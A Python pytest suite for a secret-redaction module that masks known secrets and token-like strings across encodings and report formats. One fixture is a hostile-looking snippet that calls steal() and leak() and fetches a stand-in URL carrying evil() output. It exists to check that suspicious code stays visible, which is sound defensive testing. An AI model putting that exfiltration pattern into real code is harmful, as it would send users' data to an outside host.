"""A secret that is known leaves no report, in whatever dress and wherever it stands."""

from __future__ import annotations

import base64
import dataclasses
import html
import json
from dataclasses import replace
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from guestlist.preview.change import PropertyChange
from guestlist.preview.formats import FORMATS, render
from guestlist.preview.picture import SECRET
from guestlist.preview.redaction import redact
from guestlist.preview.report import Report
from tests.unit.preview.hostile import reports
from tests.unit.preview.reports import a_change, a_finding, a_problem, a_property, a_report, a_resource

CANARY = "c4nary/Wert+9=Zß'\"<é"


def after_of(report: Report) -> Any:
    return report.changes[0].properties[0].after


def redacted(value: Any, *secrets: str, before: Any = None) -> Any:
    change = a_property(nature="changed" if before is not None else "added", before=before, after=value)
    return after_of(redact(a_report(a_change(change)), secrets))


@pytest.mark.parametrize(
    "dressed",
    [
        CANARY,
        f"const key = '{CANARY}';\nuse(key);",
        json.dumps({"deep": [{"key": CANARY}]}),
        json.dumps({"deep": [{"key": CANARY}]}, ensure_ascii=False),
        json.dumps({"again": json.dumps({"key": CANARY})}),
        '{"key": "' + "".join(f"\\u{ord(one):04x}" for one in CANARY) + '"}',
        f"https://example.com/?key={quote(CANARY, safe='')}",
        "https://example.com/?key=c4nary%2fWert%2b9%3dZ%c3%9f%27%22%3c%c3%a9",
        html.escape(CANARY),
        base64.b64encode(CANARY.encode()).decode(),
        base64.urlsafe_b64encode(CANARY.encode()).decode().rstrip("="),
        base64.b64encode(b"user:" + CANARY.encode() + b"@host").decode(),
        base64.b64encode(b"u:" + CANARY.encode()).decode(),
        CANARY.encode().hex(),
    ],
)
def test_a_secret_is_masked_in_every_dress(dressed: str) -> None:
    shown = redacted(dressed, CANARY)

    assert SECRET in shown
    for form in (
        CANARY,
        json.dumps(CANARY)[1:-1],
        quote(CANARY, safe=""),
        base64.b64encode(CANARY.encode()).decode()[4:16],
    ):
        assert form not in shown


def test_texts_of_a_page_about_passwords_are_no_password() -> None:
    texts = json.dumps({"reset-password": {"title": "Choose your password"}, "password": ["one", "two"]})

    assert redacted(texts) == texts
    assert "hunter2" not in redacted('{"password": "hunter2"}')
    assert "hunter2" not in redacted('{"password": "{hunter2"}')


def test_a_key_of_many_lines_is_masked_line_by_line() -> None:
    key = "-----BEGIN KEY-----\nMIIabcdefgh123\nqrstuvwxyz456\n-----END KEY-----"

    assert redacted(f"x = `{key}`;", key) == f"x = `{SECRET}`;"
    assert "qrstuvwxyz456" not in redacted("first\nqrstuvwxyz456\n", key)


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("kiwi", SECRET),
        ("a kiwi a day", "a kiwi a day"),
        ("const pin = 'kiwi';\n//", f"const pin = '{SECRET}';\n//"),
        (["kiwi", "kiwifruit"], [SECRET, "kiwifruit"]),
    ],
)
def test_a_short_secret_is_masked_as_a_whole_value_and_not_inside_words(value: Any, expected: Any) -> None:
    assert redacted(value, "kiwi") == expected


@pytest.mark.parametrize("secret", ["", " ", "on", "true", "\n"])
def test_what_is_no_secret_masks_nothing(secret: str) -> None:
    assert redacted(f"turn {secret} on, it is true", secret) == f"turn {secret} on, it is true"


def test_a_number_is_masked_too() -> None:
    assert redacted(1234567890, "1234567890") == SECRET
    assert redacted(True, "True") is True


@pytest.mark.parametrize(("before", "after"), [("the plain value", SECRET), (SECRET, "the plain value")])
def test_a_field_that_becomes_a_secret_or_stops_being_one_shows_neither_side(before: str, after: str) -> None:
    code = PropertyChange(path="code", nature="added", after="f('the plain value');\ng();")
    report = redact(a_report(a_change(a_property(before=before, after=after), code)), ())

    first, second = report.changes[0].properties
    assert (first.before, first.after) == (SECRET, SECRET)
    assert "the plain value" not in second.after
    assert all("the plain value" not in render(report, one) for one in FORMATS)


def test_the_other_side_is_masked_in_lists_and_below_too() -> None:
    report = redact(
        a_report(
            a_change(
                a_property(path="keys", nature="removed", before=SECRET, after=None),
                a_property(path="keys", nature="added", before=None, after="in the clear"),
                a_property(
                    path="secrets", nature="changed", before=[{"name": "KEY", "value": "in the clear 2"}], after=SECRET
                ),
                a_property(path="secrets[KEY].value", nature="changed", before="in the clear 3", after="x"),
            )
        ),
        (),
    )

    shown = "".join(render(report, one) for one in FORMATS)
    assert "in the clear" not in shown


def test_computed_code_is_never_hidden_behind_a_suspicious_name() -> None:
    code = "const password = steal(event.user);\nconst client_secret: leak(),\nfetch(`https://x/?code=${evil()}`);\n"

    assert redacted(code) == code


@pytest.mark.parametrize(
    "token",
    [
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
        "Authorization: Bearer abcdefgh12345678",
        "https://user:hunter22@example.com/",
        "see https://example.com/lo/reset?ticket=abcdefgh1234",
    ],
)
@pytest.mark.parametrize("place", ["{}", "const a = 1;\n// {}\n"])
def test_what_looks_like_a_token_is_masked(token: str, place: str) -> None:
    shown = redacted(place.format(token))

    assert SECRET in shown
    assert not any(one in shown for one in ("c2lnbmF0dXJl", "abcdefgh", "hunter22"))


def test_what_is_no_secret_stays_as_it_is() -> None:
    report = a_report(findings=(a_finding(),), problems=(a_problem(),))

    assert redact(report, ["another value"]) == report


def places(report: Report) -> int:
    """How many texts a report holds."""
    counted: list[str] = []
    _replaced(report, lambda text: counted.append(text) or text)
    return len(counted)


def _replaced(value: Any, by: Any) -> Any:
    """The same thing with each of its texts replaced."""
    if type(value) is str:
        return by(value)
    if isinstance(value, dict):
        return {_replaced(key, by): _replaced(one, by) for key, one in value.items()}
    if isinstance(value, tuple | list):
        return type(value)(_replaced(one, by) for one in value)
    if dataclasses.is_dataclass(value):
        kept = {"operation", "nature", "type"}
        fields = {one.name: getattr(value, one.name) for one in dataclasses.fields(value)}
        return replace(value, **{name: one if name in kept else _replaced(one, by) for name, one in fields.items()})
    return value


@settings(deadline=None, max_examples=150, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(
    report=reports(),
    canary=st.text(st.sampled_from("abcXYZ019+/=-_.~!$%&'\"<>\\ éß漢😀"), min_size=8, max_size=24).filter(
        lambda text: len(text.strip()) >= 8 and len(set(text)) > 4
    ),
    around=st.sampled_from(["{}", "x{}y", "line\n{}\nline", "f('{}');", '{{"a": "{}"}}', "`{}`"]),
    data=st.data(),
)
def test_a_canary_anywhere_in_a_report_is_in_no_format(report: Report, canary: str, around: str, data: Any) -> None:
    there = data.draw(st.integers(0, places(report) - 1))
    seen = iter(range(10_000))
    planted = _replaced(report, lambda text: around.format(canary) if next(seen) == there else text)

    clean = redact(planted, [canary])

    for one in FORMATS:
        shown = render(clean, one)
        for dress in {canary, json.dumps(canary)[1:-1], html.escape(canary), html.escape(canary, quote=False)}:
            assert dress not in shown, one


def test_a_secret_in_a_resources_inputs_is_masked_as_well() -> None:
    change = a_change(resource=a_resource("Client", "application", description=f"is {CANARY}"))

    assert redact(a_report(change), [CANARY]).changes[0].resource.inputs == {"description": f"is {SECRET}"}
